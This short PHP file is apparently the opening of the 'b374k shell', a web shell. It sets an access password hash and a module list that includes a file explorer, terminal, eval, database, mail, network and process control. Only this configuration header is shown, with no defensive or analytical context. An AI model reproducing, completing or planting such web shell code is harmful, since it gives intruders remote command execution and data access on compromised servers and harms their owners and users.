<?php
/*
	b374k shell
	Jayalah Indonesiaku
*/
$GLOBALS['pass'] = "fb621f5060b9f65acf8eb4232e3024140dea2b34";
$GLOBALS['module_to_load'] = array("explorer", "terminal", "eval", "convert", "database", "info", "mail", "network", "processes");
